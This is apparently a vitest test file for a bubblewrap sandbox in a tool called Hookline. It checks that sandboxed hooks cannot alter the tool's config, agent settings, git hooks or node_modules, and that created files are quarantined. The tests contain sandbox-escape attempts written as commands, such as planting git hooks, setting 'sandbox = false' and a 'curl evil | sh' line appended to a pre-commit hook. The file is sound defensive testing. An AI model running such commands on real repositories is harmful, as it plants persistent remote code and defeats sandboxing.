// Nothing that decides what runs outside the sandbox later is writable from inside: Hookline's config,
// journal and plugins, coding agents' settings, version control hooks — read-only where they exist,
// moved aside (and the hook failed) where a hook created them.
import {
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import type { SandboxSession } from '@hookline/core/plugin';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { bubblewrapProblem, reportBubblewrapProblem } from '../test-support/bubblewrap-probe.ts';
import { bubblewrapSandbox, type BubblewrapSandboxSettings } from './bubblewrap-sandbox.ts';
import { BubblewrapProtectedPathError } from './bubblewrap-protected-path-error.ts';

const problem = bubblewrapProblem();
reportBubblewrapProblem(problem, 'protected-paths.test.ts');

let work: string;
beforeEach(() => {
  work = realpathSync(mkdtempSync(join(tmpdir(), 'hookline-bwrap-protected-')));
  giveToHooks(work);
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

// As root, hooks run as nobody on the host: what they should be able to write (but for the protection) is theirs.
function giveToHooks(path: string): void {
  if (process.getuid?.() === 0) chownSync(path, 65534, 65534);
}

// Makes a folder (no content) or a file under work, every part of it the hooks' own.
function make(path: string, content?: string): void {
  const parts = path.split('/');
  for (let depth = 1; depth < parts.length + (content === undefined ? 1 : 0); depth++) {
    const folder = join(work, ...parts.slice(0, depth));
    mkdirSync(folder, { recursive: true });
    giveToHooks(folder);
  }
  if (content === undefined) return;
  writeFileSync(join(work, path), content);
  giveToHooks(join(work, path));
}

const text = (bytes: Uint8Array): string => new TextDecoder().decode(bytes);

async function open(settings: BubblewrapSandboxSettings = {}): Promise<SandboxSession> {
  return bubblewrapSandbox({ baseDir: work, ...settings }).doOpen('protected', new AbortController().signal);
}

const quarantined = (folder: string, name: string): string[] =>
  readdirSync(folder).filter((entry) => entry.startsWith(`${name}.hookline-quarantine-`));

describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of reach', () => {
  test('an existing hookline.toml cannot be appended to, replaced, renamed or removed', async () => {
    make('hookline.toml', '[[hooks]]\nevent = "stage_start"\ncommand = "true"\n');
    const session = await open();
    const tries = [
      `echo '[[hooks]]' >> hookline.toml`,
      'echo x > new.toml && mv new.toml hookline.toml',
      'mv hookline.toml moved.toml',
      'rm -f hookline.toml',
      'ln -sf /tmp/x hookline.toml',
    ];
    for (const command of tries) {
      const result = await session.exec({ command: `( ${command} ) 2>&1; echo "exit $?"`, cwd: work });
      expect(text(result.stdout), command).toMatch(
        /(Read-only file system|Device or resource busy|Permission denied)[\s\S]*exit [1-9]/,
      );
    }
    expect(readFileSync(join(work, 'hookline.toml'), 'utf8')).toBe(
      '[[hooks]]\nevent = "stage_start"\ncommand = "true"\n',
    );
    await session.dispose();
  });

  test('agent settings, git hooks and config, and node_modules are read-only as whole folders', async () => {
    make('.claude/settings.json', '{}');
    make('.git/hooks');
    make('.git/config', '[core]\n');
    make('node_modules/@hookline/cli');
    make('.github/hooks/hooks.json', '{}');
    const session = await open();
    const result = await session.exec({
      command:
        [
          'echo "{\\"hooks\\":1}" > .claude/settings.json',
          'echo "#!/bin/sh" > .git/hooks/pre-commit',
          'printf "[core]\\nhooksPath = /tmp\\n" >> .git/config',
          'mv .git .git-moved',
          'mv .claude .claude-moved',
          'touch node_modules/@hookline/cli/index.js',
          'echo x > .github/hooks/hooks.json',
        ]
          .map((command) => `{ ${command}; } 2>/dev/null && echo "DONE: ${command.replaceAll('"', '')}"`)
          .join('; ') + '; true',
      cwd: work,
    });
    expect(result.exitCode, text(result.stderr)).toBe(0);
    expect(text(result.stdout)).toBe('');
    expect(readFileSync(join(work, '.claude/settings.json'), 'utf8')).toBe('{}');
    expect(readFileSync(join(work, '.git/config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(join(work, '.git/hooks/pre-commit'))).toBe(false);
    await session.dispose();
  });

  test('a hook that creates a missing hookline.toml fails naming it; the file is moved aside, not deleted', async () => {
    const session = await open();
    const exec = session.exec({
      command: `printf '[[hooks]]\\nevent = "stage_start"\\nsandbox = false\\ncommand = "id"\\n' > hookline.toml`,
      cwd: work,
    });
    await expect(exec).rejects.toThrow(BubblewrapProtectedPathError);
    await expect(exec).rejects.toThrow(
      new RegExp(
        `${join(work, 'hookline.toml')} was created; it was moved aside to ${join(work, 'hookline.toml')}\\.hookline-quarantine-.*inspect it`,
      ),
    );
    expect(existsSync(join(work, 'hookline.toml'))).toBe(false);
    const [aside] = quarantined(work, 'hookline.toml');
    expect(readFileSync(join(work, aside!), 'utf8')).toContain('sandbox = false');
    await session.dispose();
  });

  test('created agent settings, git folders, husky hooks and nested .github/hooks are each caught', async () => {
    const session = await open();
    for (const [command, path] of [
      ['mkdir -p .claude && echo {} > .claude/settings.json', '.claude'],
      ['mkdir -p .git/hooks && echo "#!/bin/sh" > .git/hooks/post-checkout', '.git'],
      ['mkdir .husky', '.husky'],
      ['mkdir -p .github/hooks && echo {} > .github/hooks/h.json', '.github/hooks'],
      ['echo "{}" > .mcp.json', '.mcp.json'],
      ['mkdir -p .hookline && touch .hookline/journal.db', '.hookline'],
    ] as const) {
      await expect(session.exec({ command, cwd: work }), command).rejects.toThrow(
        new RegExp(`${join(work, path).replaceAll('.', '\\.')} was created`),
      );
      const parent = join(work, path, '..');
      expect(existsSync(join(work, path))).toBe(false);
      expect(quarantined(parent, path.split('/').at(-1)!)).toHaveLength(1);
    }
    await session.dispose();
  });

  test('a hook that changes nothing protected passes, and other files stay writable', async () => {
    make('hookline.toml', '');
    const session = await open();
    const result = await session.exec({
      command: 'echo ok > result.txt && mkdir -p build && touch build/x',
      cwd: work,
    });
    expect(result.exitCode, text(result.stderr)).toBe(0);
    expect(readFileSync(join(work, 'result.txt'), 'utf8')).toBe('ok\n');
    await session.dispose();
  });

  test('paths the host names (a journal, a config elsewhere) are protected inside writable folders too', async () => {
    make('data/journal.db', 'journal');
    const elsewhere = join(work, 'data', 'config', 'hookline.toml');
    const session = await open({ protectedPaths: [join(work, 'data', 'journal.db'), elsewhere] });
    const result = await session.exec({ command: 'echo x >> data/journal.db; echo "exit $?"', cwd: work });
    expect(text(result.stdout)).toMatch(/exit [1-9]/);
    expect(readFileSync(join(work, 'data', 'journal.db'), 'utf8')).toBe('journal');
    await expect(
      session.exec({ command: 'mkdir -p data/config && echo "[[hooks]]" > data/config/hookline.toml', cwd: work }),
    ).rejects.toThrow(/data\/config\/hookline\.toml was created/);
    await session.dispose();
  });

  test('a writable path or working directory inside a protected path is refused', async () => {
    make('.git/objects');
    make('project');
    const session = await open();
    await expect(session.exec({ command: 'true', cwd: join(work, '.git') })).rejects.toThrow(
      /does not bind .*\.git writable: it lies inside .*\.git/,
    );
    await session.dispose();
    const withWritable = await open({ writable: ['.git/objects'] });
    await expect(withWritable.exec({ command: 'true', cwd: work })).rejects.toThrow(
      /does not bind .*\.git\/objects writable: it lies inside .*\.git/,
    );
    await withWritable.dispose();
  });

  test('a protected link: its target is read-only, and a link the hook replaced is moved aside', async () => {
    make('config/real.toml', 'real');
    symlinkSync('config/real.toml', join(work, 'hookline.toml'));
    const session = await open();
    const append = await session.exec({ command: 'echo x >> hookline.toml; echo "exit $?"', cwd: work });
    expect(text(append.stdout)).toMatch(/exit [1-9]/);
    expect(readFileSync(join(work, 'config/real.toml'), 'utf8')).toBe('real');
    await expect(
      session.exec({ command: 'rm hookline.toml && echo "[[hooks]]" > hookline.toml', cwd: work }),
    ).rejects.toThrow(/hookline\.toml was replaced; it was moved aside/);
    expect(existsSync(join(work, 'hookline.toml'))).toBe(false);
    await session.dispose();
  });

  test('the same protection holds in every writable folder, not only the working directory', async () => {
    make('other/.git');
    make('cwd');
    const session = await open({ writable: ['other'] });
    const result = await session.exec({
      command: `touch ${join(work, 'other', '.git', 'config')}; echo "exit $?"`,
      cwd: join(work, 'cwd'),
    });
    expect(text(result.stdout)).toMatch(/exit [1-9]/);
    await expect(
      session.exec({ command: `echo x > ${join(work, 'other', 'hookline.toml')}`, cwd: join(work, 'cwd') }),
    ).rejects.toThrow(/other\/hookline\.toml was created/);
    await session.dispose();
  });

  test("the repository's own hooks folder (core.hooksPath) is protected like .git/hooks", async () => {
    make('.git/config', '[core]\n\tbare = false\n\thooksPath = scripts/hooks\n');
    make('scripts/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
    const session = await open();
    const result = await session.exec({
      command: 'echo "curl evil | sh" >> scripts/hooks/pre-commit; echo "exit $?"; echo ok > scripts/other.txt',
      cwd: work,
    });
    expect(text(result.stdout)).toMatch(/exit [1-9]/);
    expect(readFileSync(join(work, 'scripts/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
    expect(readFileSync(join(work, 'scripts/other.txt'), 'utf8')).toBe('ok\n');
    rmSync(join(work, 'scripts/hooks'), { recursive: true });
    await expect(
      session.exec({ command: 'mkdir -p scripts/hooks && echo x > scripts/hooks/pre-push', cwd: work }),
    ).rejects.toThrow(/scripts\/hooks was created/);
    await session.dispose();
  });
});
